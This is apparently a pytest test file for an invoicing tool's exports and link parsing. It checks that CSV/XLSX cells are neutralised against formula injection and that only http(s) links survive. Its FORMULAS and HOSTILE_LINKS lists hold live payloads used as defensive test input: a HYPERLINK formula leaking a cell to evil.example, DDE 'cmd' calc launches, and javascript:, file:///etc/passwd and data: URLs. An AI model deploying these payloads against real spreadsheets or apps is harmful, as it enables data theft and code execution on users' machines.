"""Provider text cannot turn into a spreadsheet formula or a dangerous link (Qt-free part).

- CSV and XLSX cells that start with ``=``, ``+``, ``-``, ``@``, tab or CR are prefixed with
  ``'`` (OWASP "CSV injection"), whichever provider the text came from; JSON keeps text as-is.
- Each provider keeps only http(s) links in ``Invoice.pdf_url``/``pay_url`` (and reminder links):
  ``javascript:``, ``file:``, ``data:`` and the like are dropped.
- The OAuth loopback listener (127.0.0.1 only, one request, ``state`` checked, timeout) is covered
  by ``tests/providers/test_oauth.py`` (``test_listener_*``).
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from invoicedesk import export, sandbox
from invoicedesk.domain import Invoice
from invoicedesk.providers import buckaroo_parse, connectid_parse, telecomx_parse
from invoicedesk.providers.base import ClientContext, FetchedInvoice
from invoicedesk.providers.http import HttpSession
from invoicedesk.providers.sendregning import SendRegningClient

from .world import open_world, record

TODAY = dt.date(2025, 6, 15)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "javascript://example.no/%0Aalert(1)",
    "file:///etc/passwd",
    "FILE://C:/Windows/win.ini",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "ftp://example.no/faktura.pdf",
    "mailto:regnskap@example.no",
    "java\nscript:alert(1)",
]


# ---- formulas in exports -----------------------------------------------------------------------


@pytest.fixture
def hostile_names(tmp_path: Path) -> Iterator[list[Invoice]]:
    """A SendRegning sync whose customers are called like formulas, through the engine."""
    server = sandbox.create("sendregning", size=len(FORMULAS) + 3)
    for invoice, name in zip(server.invoices, FORMULAS, strict=False):  # type: ignore[attr-defined]
        invoice["recipient"]["name"] = name
    server.start()
    world = open_world(tmp_path / "profile", "sendregning", server)
    try:
        assert world.sync().state == "ok"
        invoices = world.invoices()
        assert sorted(i.customer_name or "" for i in invoices if i.customer_name in FORMULAS) == (
            sorted(FORMULAS)
        )
        yield invoices
    finally:
        world.close()
        server.stop()


def _expected(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@pytest.mark.parametrize("language", ["en", "nb"])
def test_csv_cells_from_provider_text_are_never_formulas(hostile_names, language):
    text = export.to_csv(hostile_names, TODAY, language)
    delimiter = ";" if language == "nb" else ","
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))
    header, body = rows[0], rows[1:]
    assert len(body) == len(hostile_names)  # a CR in a name did not break a row
    customers = [row[header.index("customer")] for row in body]
    for name in FORMULAS:
        assert _expected(name) in customers
    for row in body:
        for column, cell in zip(header, row, strict=True):
            if column not in ("net", "vat", "total", "paid_amount", "outstanding"):
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)


def test_xlsx_cells_from_provider_text_are_text_not_formulas(hostile_names, tmp_path):
    target = tmp_path / "out.xlsx"
    export.write_xlsx(hostile_names, target, TODAY)
    sheet = load_workbook(target).active
    header = [c.value for c in sheet[1]]
    customers = []
    for row in sheet.iter_rows(min_row=2):
        for column, cell in zip(header, row, strict=True):
            assert cell.data_type != "f", (column, cell.value)  # no formula cell at all
        customers.append(row[header.index("customer")].value)
    for name in FORMULAS:
        # XML normalises a CR to LF when the file is read back; the quote stays in front
        assert _expected(name).replace("\r", "\n") in customers


def test_json_export_keeps_the_provider_text_unchanged(hostile_names):
    rows = json.loads(export.to_json(hostile_names, TODAY))["invoices"]
    assert set(FORMULAS) <= {r["customer"] for r in rows}


@pytest.mark.parametrize("text", [*FORMULAS, "-1", "@kari", "Kari Nordmann", "", "'=1"])
def test_neutralise_prefixes_exactly_the_dangerous_first_characters(text):
    assert export.neutralise(text) == _expected(text)


# ---- links: only http(s) -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def synced(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[FetchedInvoice]]:
    root = tmp_path_factory.mktemp("shapes")
    return {name: record(name, root / name, size=20) for name in sandbox.SANDBOX_NAMES}


@pytest.fixture(scope="module")
def shapes(synced: dict[str, list[FetchedInvoice]]) -> dict[str, list[Any]]:
    return {name: [item.raw for item in items] for name, items in synced.items()}


@pytest.fixture(scope="module")
def sendregning_parse() -> Iterator[Callable[[Any], Invoice]]:
    session = HttpSession("http://127.0.0.1:9/")
    ctx = ClientContext(
        account="acc",
        base_url="http://127.0.0.1:9/",
        options={"originator_id": "12345"},
        secrets={"username": "u@example.no", "password": "links-test-password"},
        http=session,
    )
    client = SendRegningClient(ctx)
    yield lambda raw: client.parse(raw, set())
    session.close()


def _links(invoice: Invoice) -> list[str | None]:
    return [invoice.pdf_url, invoice.pay_url, *(r.link for r in invoice.reminders)]


def _with_links(provider: str, raw: Any, link: str) -> Any:
    """A real raw invoice of ``provider`` with every link field set to ``link``."""
    raw = copy.deepcopy(raw)
    if provider == "sendregning":
        raw["_links"] = {"pdf": {"uri": link}, "invoice": {"pdf": link}}
    elif provider == "buckaroo":
        raw["Paylink"] = link
    elif provider == "connectid":
        for part in ("listItem", "invoiceInfoWithDetail"):
            if isinstance(raw.get(part), dict):
                raw[part]["invoiceHotelUrl"] = link
    else:  # Telecom X sends no links; fields that look like one must not become one
        for part in ("list", "detail"):
            raw[part].update(pdfUrl=link, pdf=link, link=link, url=link, payUrl=link)
    return raw


def _parse(provider: str, raw: Any, sendregning_parse: Callable[[Any], Invoice]) -> Invoice:
    if provider == "sendregning":
        return sendregning_parse(raw)
    if provider == "buckaroo":
        return buckaroo_parse.parse_invoice(raw, provider="buckaroo", account="acc")
    if provider == "connectid":
        key = connectid_parse.InvoiceKey("FTOTT", "7435367")
        reminder = dict(raw["listItem"] or {}, reminderNumber=1)
        return connectid_parse.user_invoice(
            account="acc",
            key=key,
            item=raw["listItem"],
            detail=raw["invoiceInfoWithDetail"],
            reminders=[reminder],
        )
    return telecomx_parse.invoice(
        raw["list"], raw["detail"], account="acc", currency="DKK", names={}
    )


@pytest.mark.parametrize("link", HOSTILE_LINKS)
@pytest.mark.parametrize("provider", sandbox.SANDBOX_NAMES)
def test_only_http_links_are_kept(provider, link, shapes, sendregning_parse):
    raw = next(r for r in shapes[provider] if provider != "connectid" or r["listItem"])
    invoice = _parse(provider, _with_links(provider, raw, link), sendregning_parse)
    assert _links(invoice) == [None] * len(_links(invoice)), _links(invoice)
    assert export.invoice_json(invoice, TODAY)["links"] == {"pdf": None, "pay": None}


@pytest.mark.parametrize(
    ("provider", "link", "kept"),
    [
        ("sendregning", "https://www.sendregning.no/download/i/1/x", "https://www.sendregning.no/"),
        ("sendregning", "/download/i/1000/abc", "http://127.0.0.1:9/download/i/1000/abc"),
        ("buckaroo", "https://checkout.buckaroo.nl/Paylink/abc", "https://checkout.buckaroo.nl/"),
        ("connectid", "invoicehotel.example.no/v/abc", "https://invoicehotel.example.no/v/abc"),
        ("connectid", "http://invoicehotel.example.no/v/abc", "https://invoicehotel.example.no/"),
    ],
)
def test_http_links_are_kept(provider, link, kept, shapes, sendregning_parse):
    """The filter is not simply dropping everything: real links survive (upgraded to https
    where the provider's spec says so)."""
    raw = next(r for r in shapes[provider] if provider != "connectid" or r["listItem"])
    invoice = _parse(provider, _with_links(provider, raw, link), sendregning_parse)
    found = [url for url in _links(invoice) if url]
    assert found and all(url.startswith(kept) for url in found), found


def test_every_link_after_a_real_sync_is_http(synced):
    """What the sandboxes really send: Buckaroo includes an ``ideal://`` pay link, dropped."""
    dropped = 0
    for items in synced.values():
        for item in items:
            links = [link for link in _links(item.invoice) if link is not None]
            assert all(link.startswith(("https://", "http://")) for link in links), links
            if "ideal://" in json.dumps(item.raw, default=str):
                assert item.invoice.pay_url is None
                dropped += 1
    assert dropped, "the Buckaroo sandbox should send a non-http pay link"
    assert any(i.invoice.pay_url for i in synced["buckaroo"])
    assert any(i.invoice.pdf_url for i in synced["connectid"])
    assert any(i.invoice.pdf_url for i in synced["sendregning"])
